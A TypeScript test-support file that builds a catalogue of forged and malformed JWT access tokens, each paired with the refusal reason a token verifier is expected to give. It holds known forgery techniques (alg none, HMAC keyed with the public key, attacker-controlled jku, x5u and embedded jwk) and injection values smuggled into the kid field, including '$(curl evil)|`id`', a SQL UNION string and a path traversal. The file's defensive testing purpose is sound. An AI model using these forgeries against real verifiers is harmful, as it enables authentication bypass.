import { createHmac, generateKeyPairSync, sign } from 'node:crypto';
import { deflateRawSync } from 'node:zlib';
import { expect } from 'vitest';
import type { InvalidTokenReason } from '../../lib/verification/invalid-token.error.js';
import { base64url, createSigner, forge, signature } from './token-forge.js';
import {
  inSeconds,
  RESOURCE,
  type VerificationWorld,
} from './verification-world.js';
import type { ZoneServer } from './zone-server.js';

/** What the forgeries are made with; set it before they are made. */
interface Stage {
  world: VerificationWorld;
  attackerServer: ZoneServer;
}

const on = {} as Stage;

/** Somebody else, whose keys are published at a server of their own. */
export const attacker = createSigner('RS256', 'key-1');
const elsewhere = createSigner('RS256', 'elsewhere');
/** A second key of the zone. */
export const ec = createSigner('ES256', 'ec');

/** Sets where the forgeries claim to come from. */
export function setStage(
  world: VerificationWorld,
  attackerServer: ZoneServer,
): void {
  Object.assign(on, { world, attackerServer });
}

type Claims = Record<string, unknown>;
/** Signed by the zone. */
const claims = (changes: Claims) => () => on.world.token(changes);
/** Signed by the zone. */
export const header = (changes: Claims) => () => on.world.token({}, changes);
/** Signed by somebody else under the id of the zone's key. */
export const forged = (changes: Claims) => () =>
  forge(attacker, on.world.claims(), on.world.header(changes));
const unsigned = (alg: string) => () =>
  `${base64url(on.world.header({ alg }))}.${base64url(on.world.claims())}.`;
export const mac = (secret: string | Buffer, kid = 'key-1') => {
  const input = `${base64url({ alg: 'HS256', typ: 'at+jwt', kid })}.${base64url(on.world.claims())}`;
  return `${input}.${createHmac('sha256', secret).update(input).digest('base64url')}`;
};
const raw = (json: string) => () =>
  forge(on.world.signer, json, on.world.header());
const json = () => JSON.stringify(on.world.claims());
const parts = () => on.world.token().split('.') as [string, string, string];
const pem = () =>
  on.world.signer.publicKey.export({ type: 'spki', format: 'pem' });
export const ecToken = (bytes: (input: string) => Buffer) => {
  const input = `${base64url({ alg: 'ES256', kid: 'ec' })}.${base64url(on.world.claims())}`;
  return `${input}.${bytes(input).toString('base64url')}`;
};

export type Forgery = [
  name: string,
  token: () => string,
  reason: InvalidTokenReason,
];

/** Refused on sight: nobody is asked about them. */
export const IMPLAUSIBLE: Forgery[] = [
  ...['none', 'None', 'NONE', 'nOnE'].map((alg): Forgery => [
    `alg ${alg}`,
    header({ alg }),
    'algorithm',
  ]),
  ...['none', 'None', 'NONE', 'nOnE'].map((alg): Forgery => [
    `alg ${alg}, no signature`,
    unsigned(alg),
    'malformed',
  ]),
  ['alg missing', header({ alg: undefined }), 'algorithm'],
  ['alg a list', header({ alg: ['RS256'] }), 'algorithm'],
  ['alg not accepted here', header({ alg: 'RS512' }), 'algorithm'],
  ['empty signature', unsigned('RS256'), 'malformed'],
  ['HMAC, null byte', () => mac('\0'), 'algorithm'],
  ['HMAC, blank', () => mac(''), 'algorithm'],
  ['HMAC, public key as PEM', () => mac(pem()), 'algorithm'],
  [
    'HMAC, public key as trimmed PEM',
    () => mac(pem().toString().trim()),
    'algorithm',
  ],
  [
    'HMAC, public key as PKCS#1 PEM',
    () =>
      mac(on.world.signer.publicKey.export({ type: 'pkcs1', format: 'pem' })),
    'algorithm',
  ],
  [
    'HMAC, public key as DER',
    () =>
      mac(on.world.signer.publicKey.export({ type: 'spki', format: 'der' })),
    'algorithm',
  ],
  [
    'HMAC, public key as JWK',
    () => mac(JSON.stringify(on.world.signer.jwk)),
    'algorithm',
  ],
  ['kid missing', header({ kid: undefined }), 'key'],
  ['kid empty', header({ kid: '' }), 'key'],
  ['kid a number', header({ kid: 1 }), 'key'],
  ['kid a list', header({ kid: ['key-1'] }), 'key'],
  ['crit unknown', header({ crit: ['x'], x: 1 }), 'critical'],
  ['crit empty', header({ crit: [] }), 'critical'],
  ['crit null', header({ crit: null }), 'critical'],
  ['b64 false', header({ b64: false }), 'critical'],
  ['b64 false and critical', header({ b64: false, crit: ['b64'] }), 'critical'],
  ['zip', header({ zip: 'DEF' }), 'critical'],
  [
    'zip, compressed',
    () => {
      const input = `${base64url(on.world.header({ zip: 'DEF' }))}.${deflateRawSync(json()).toString('base64url')}`;
      return `${input}.${signature(on.world.signer, input)}`;
    },
    'malformed',
  ],
  [
    'compressed in secret',
    () => {
      const input = `${base64url(on.world.header())}.${deflateRawSync(json()).toString('base64url')}`;
      return `${input}.${signature(on.world.signer, input)}`;
    },
    'malformed',
  ],
  [
    'JSON serialization',
    () => {
      const [protectedHeader, payload, signed] = parts();
      return JSON.stringify({
        protected: protectedHeader,
        payload,
        signature: signed,
      });
    },
    'malformed',
  ],
  ['one part', () => parts()[0], 'malformed'],
  ['two parts', () => parts().slice(0, 2).join('.'), 'malformed'],
  ['four parts', () => [...parts(), 'AA'].join('.'), 'malformed'],
  ['five parts', () => [...parts(), 'AA', 'AA'].join('.'), 'malformed'],
  ['empty', () => '', 'malformed'],
  ['dots', () => '..', 'malformed'],
  ['a dot at the end', () => `${on.world.token()}.`, 'malformed'],
  ['no claims', () => `${parts()[0]}..${parts()[2]}`, 'malformed'],
  ...['=', ' ', '\n', '+', '/', '\0', 'é', '*'].flatMap((extra) =>
    [0, 1, 2].map((part): Forgery => {
      const token = () =>
        parts()
          .map((one, i) => (i === part ? one + extra : one))
          .join('.');
      return [`${JSON.stringify(extra)} in part ${part}`, token, 'malformed'];
    }),
  ),
  ['blanks around', () => ` ${on.world.token()} `, 'malformed'],
  ['the standard alphabet', () => spelledLikeBase64(), 'malformed'],
  ['left-over bits', () => withLeftOverBits(on.world.token()), 'malformed'],
  [
    'a character too many',
    () => on.world.token().replace(/\.[^.]*$/, '.AAAAA'),
    'malformed',
  ],
  [
    'aud twice, ours last',
    () => raw(json().replace('{', '{"aud":"https://a",'))(),
    'malformed',
  ],
  [
    'aud twice, ours first',
    () => raw(json().replace(/}$/, ',"aud":"https://a"}'))(),
    'malformed',
  ],
  [
    'aud twice, once escaped',
    () => raw(json().replace('{', '{"\\u0061ud":"https://a",'))(),
    'malformed',
  ],
  [
    'a member twice in depth',
    () => raw(json().replace('{', '{"x":[{"y":1,"y":1}],'))(),
    'malformed',
  ],
  [
    'alg twice',
    () =>
      forge(
        on.world.signer,
        json(),
        '{"alg":"RS256","alg":"RS256","kid":"key-1"}',
      ),
    'malformed',
  ],
  ['claims null', raw('null'), 'malformed'],
  ['claims a list', raw('[]'), 'malformed'],
  ['claims a text', raw('"x"'), 'malformed'],
  ['claims no JSON', raw('{'), 'malformed'],
  [
    'claims after a byte order mark',
    () => raw(`\ufeff${json()}`)(),
    'malformed',
  ],
  ['header null', () => forge(on.world.signer, json(), 'null'), 'malformed'],
  ['header a list', () => forge(on.world.signer, json(), '[]'), 'malformed'],
  [
    'header no JSON',
    () => forge(on.world.signer, json(), 'RS256'),
    'malformed',
  ],
  ['claims not UTF-8', () => notUtf8(), 'malformed'],
  [
    'one megabyte',
    () => on.world.token({ x: 'x'.repeat(1_000_000) }),
    'malformed',
  ],
  [
    'more than 16 kB',
    () => on.world.token({ x: 'x'.repeat(12_200) }),
    'malformed',
  ],
  [
    'deep nesting',
    () => raw(json().replace('{', `{"x":${'['.repeat(5_500)}`))(),
    'malformed',
  ],
  ['iss missing', claims({ iss: undefined }), 'issuer'],
  ['iss a list', () => claims({ iss: [on.world.zone.issuer] })(), 'issuer'],
  ['iss of nobody', claims({ iss: 'https://as.example.com' }), 'issuer'],
  [
    'iss of the attacker',
    () => claims({ iss: on.attackerServer.issuer })(),
    'issuer',
  ],
  [
    'iss longer',
    () => claims({ iss: `${on.world.zone.issuer}.evil` })(),
    'issuer',
  ],
  [
    'iss with a path',
    () => claims({ iss: `${on.world.zone.issuer}/x` })(),
    'issuer',
  ],
  [
    'iss in other case',
    () => claims({ iss: on.world.zone.issuer.toUpperCase() })(),
    'issuer',
  ],
  [
    'iss with blanks',
    () => claims({ iss: ` ${on.world.zone.issuer}` })(),
    'issuer',
  ],
  ['iss of many slashes', claims({ iss: `${'/'.repeat(11_000)}x` }), 'issuer'],
  [
    'aud of the parent path',
    claims({ aud: 'https://mcp.example.test' }),
    'audience',
  ],
  [
    'aud of the parent path with a slash',
    claims({ aud: 'https://mcp.example.test/' }),
    'audience',
  ],
  [
    'aud of a sibling path',
    claims({ aud: 'https://mcp.example.test/mcp2' }),
    'audience',
  ],
  ['aud of a path below', claims({ aud: `${RESOURCE}/x` }), 'audience'],
  ['aud with a slash', claims({ aud: `${RESOURCE}/` }), 'audience'],
  ['aud with a query', claims({ aud: `${RESOURCE}?x` }), 'audience'],
  ['aud in other case', claims({ aud: RESOURCE.toUpperCase() }), 'audience'],
  [
    'aud of another port',
    claims({ aud: 'https://mcp.example.test:8443/mcp' }),
    'audience',
  ],
  [
    'aud of the default port',
    claims({ aud: 'https://mcp.example.test:443/mcp' }),
    'audience',
  ],
  [
    'aud of another scheme',
    claims({ aud: 'http://mcp.example.test/mcp' }),
    'audience',
  ],
  [
    'aud of another host',
    claims({ aud: 'https://mcp.example.test.evil/mcp' }),
    'audience',
  ],
  [
    'aud a list without us',
    claims({ aud: ['https://a', 'https://b'] }),
    'audience',
  ],
  [
    'aud a list in a text',
    claims({ aud: `https://a ${RESOURCE}` }),
    'audience',
  ],
  ['aud missing', claims({ aud: undefined }), 'claims'],
  ['aud a number', claims({ aud: 1 }), 'claims'],
  ['aud an object', claims({ aud: { [RESOURCE]: true } }), 'claims'],
  ['aud null', claims({ aud: null }), 'claims'],
  ['aud empty', claims({ aud: '' }), 'claims'],
  ['aud an empty list', claims({ aud: [] }), 'claims'],
  ['aud a mixed list', claims({ aud: [RESOURCE, 1] }), 'claims'],
  ['aud a list in a list', claims({ aud: [[RESOURCE]] }), 'claims'],
  ['azp instead of aud', claims({ aud: undefined, azp: RESOURCE }), 'claims'],
  [
    'client_id instead of aud',
    claims({ aud: undefined, client_id: RESOURCE }),
    'claims',
  ],
  [
    'resource instead of aud',
    claims({ aud: undefined, resource: RESOURCE }),
    'claims',
  ],
  ['exp missing', claims({ exp: undefined }), 'claims'],
  ['exp null', claims({ exp: null }), 'claims'],
  ['exp 0', claims({ exp: 0 }), 'claims'],
  ['exp negative', claims({ exp: -1 }), 'claims'],
  ['exp a text', () => claims({ exp: String(inSeconds(300)) })(), 'claims'],
  ['exp a list', () => claims({ exp: [inSeconds(300)] })(), 'claims'],
  ['exp true', claims({ exp: true }), 'claims'],
  [
    'exp NaN',
    () => raw(json().replace(/"exp":\d+/, '"exp":NaN'))(),
    'malformed',
  ],
  [
    'exp 1e400',
    () => raw(json().replace(/"exp":\d+/, '"exp":1e400'))(),
    'claims',
  ],
  ['expired', () => claims({ exp: inSeconds(-1) })(), 'expired'],
  ['expiring now', () => claims({ exp: inSeconds(0) })(), 'expired'],
  ['expired long ago', claims({ exp: 1 }), 'expired'],
  ['nbf in the future', () => claims({ nbf: inSeconds(60) })(), 'not_active'],
  ['nbf a text', claims({ nbf: 'now' }), 'claims'],
  ['nbf 1e400', () => raw(json().replace('{', '{"nbf":1e400,'))(), 'claims'],
  [
    'iat far in the future',
    () => claims({ iat: inSeconds(301 + 60) })(),
    'claims',
  ],
  ['iat missing', claims({ iat: undefined }), 'claims'],
  ['iat a text', claims({ iat: 'now' }), 'claims'],
  [
    'iat 1e400',
    () => raw(json().replace(/"iat":\d+/, '"iat":1e400'))(),
    'claims',
  ],
  ...['sub', 'client_id'].flatMap((name) =>
    [undefined, null, '', 1, {}, ['x'], true].map((value): Forgery => [
      `${name} ${JSON.stringify(value)}`,
      claims({ [name]: value }),
      'claims',
    ]),
  ),
  [
    'an ID token',
    () => on.world.token({ client_id: undefined, nonce: 'n' }, { typ: 'JWT' }),
    'claims',
  ],
  ...[
    'oauth-id-jag+jwt',
    'dpop+jwt',
    'client-authentication+jwt',
    'txntoken+jwt',
    'logout+jwt',
    'secevent+jwt',
    'id_token',
    'at+jwt ',
    'at+jwtx',
    'JOSE',
    '',
    'application/jwt',
    'text/at+jwt',
    1,
    null,
    ['at+jwt'],
  ].map((typ): Forgery => [
    `typ ${JSON.stringify(typ)}`,
    header({ typ }),
    'type',
  ]),
  ['bound to a DPoP key', claims({ cnf: { jkt: 'x'.repeat(43) } }), 'bound'],
  ['bound to a certificate', claims({ cnf: { 'x5t#S256': 'x' } }), 'bound'],
  ['bound to nobody knows what', claims({ cnf: null }), 'bound'],
];

/** Refused once the keys of the zone are known. */
export const BADLY_SIGNED: Forgery[] = [
  ['another key under the id', forged({}), 'signature'],
  ['embedded jwk', () => forged({ jwk: attacker.jwk })(), 'signature'],
  [
    'embedded jwk, own kid',
    () => forged({ jwk: attacker.jwk, kid: 'mine' })(),
    'key',
  ],
  [
    'jku to the attacker',
    () => forged({ jku: `${on.attackerServer.issuer}/jwks` })(),
    'signature',
  ],
  [
    'jku to the attacker, own kid',
    () => forged({ kid: 'mine', jku: `${on.attackerServer.issuer}/jwks` })(),
    'key',
  ],
  [
    'x5u to the attacker',
    () => forged({ x5u: `${on.attackerServer.issuer}/cert` })(),
    'signature',
  ],
  ['x5c of the attacker', () => forged({ x5c: ['AAAA'] })(), 'signature'],
  [
    'kid a URL',
    () => forged({ kid: `${on.attackerServer.issuer}/jwks` })(),
    'key',
  ],
  ['kid a path', forged({ kid: '../../../../dev/null' }), 'key'],
  ['kid SQL', forged({ kid: "x' UNION SELECT 'key';--" }), 'key'],
  ['kid a command', forged({ kid: '$(curl evil)|`id`' }), 'key'],
  ['kid a member of every object', forged({ kid: '__proto__' }), 'key'],
  [
    'kid of another issuer',
    () =>
      forge(
        elsewhere,
        on.world.claims(),
        on.world.header({ kid: 'elsewhere' }),
      ),
    'key',
  ],
  ['kid in other case', header({ kid: 'KEY-1' }), 'key'],
  [
    'the signature of another token',
    () =>
      [...parts().slice(0, 2), on.world.token({ sub: 'x' }).split('.')[2]].join(
        '.',
      ),
    'signature',
  ],
  [
    'claims changed',
    () => {
      const [head, , signed] = parts();
      return `${head}.${base64url(on.world.claims({ sub: 'admin' }))}.${signed}`;
    },
    'signature',
  ],
  [
    'header changed',
    () => {
      const [, payload, signed] = parts();
      return `${base64url(on.world.header({ typ: 'JWT' }))}.${payload}.${signed}`;
    },
    'signature',
  ],
  [
    'a short signature',
    () => [...parts().slice(0, 2), 'AAAA'].join('.'),
    'signature',
  ],
  [
    'a signature of zeros',
    () =>
      [...parts().slice(0, 2), Buffer.alloc(256).toString('base64url')].join(
        '.',
      ),
    'signature',
  ],
  ['the RSA key as ES256', header({ alg: 'ES256' }), 'key'],
  [
    'the EC key as RS256',
    () => forge(ec, on.world.claims(), { alg: 'RS256', kid: 'ec' }),
    'key',
  ],
  ['ES256, r = s = 0', () => ecToken(() => Buffer.alloc(64)), 'signature'],
  ['ES256, empty halves', () => ecToken(() => Buffer.alloc(1)), 'signature'],
  [
    'ES256 in DER form',
    () => ecToken((input) => sign('sha256', Buffer.from(input), ec.privateKey)),
    'signature',
  ],
  [
    'ES256 of another curve',
    () =>
      ecToken((input) =>
        sign('sha256', Buffer.from(input), {
          key: otherCurve,
          dsaEncoding: 'ieee-p1363',
        }),
      ),
    'signature',
  ],
  [
    'iss with a slash',
    () => claims({ iss: `${on.world.zone.issuer}/` })(),
    'issuer',
  ],
  [
    'iss with two slashes',
    () => claims({ iss: `${on.world.zone.issuer}//` })(),
    'issuer',
  ],
];

const otherCurve = generateKeyPairSync('ec', {
  namedCurve: 'secp256k1',
}).privateKey;

function spelledLikeBase64(): string {
  for (let i = 0; ; i += 1) {
    const token = on.world.token({ jti: `${i}` });
    if (/[-_][^.]*$/.test(token)) {
      const end = token.lastIndexOf('.');
      return (
        token.slice(0, end) +
        token.slice(end).replaceAll('-', '+').replaceAll('_', '/')
      );
    }
  }
}

/** 256 bytes leave two characters with four bits that mean nothing. */
function withLeftOverBits(token: string): string {
  const last = token.at(-1)!;
  const next = String.fromCharCode(last.charCodeAt(0) + 1);
  const changed = token.slice(0, -1) + next;
  expect(signatureOf(changed)).toEqual(signatureOf(token));
  return changed;
}

function signatureOf(token: string): Buffer {
  return Buffer.from(token.split('.')[2]!, 'base64url');
}

function notUtf8(): string {
  const bytes = Buffer.from(json().replace('usr_123', 'usr_\u00ff'), 'latin1');
  const input = `${base64url(on.world.header())}.${bytes.toString('base64url')}`;
  return `${input}.${signature(on.world.signer, input)}`;
}
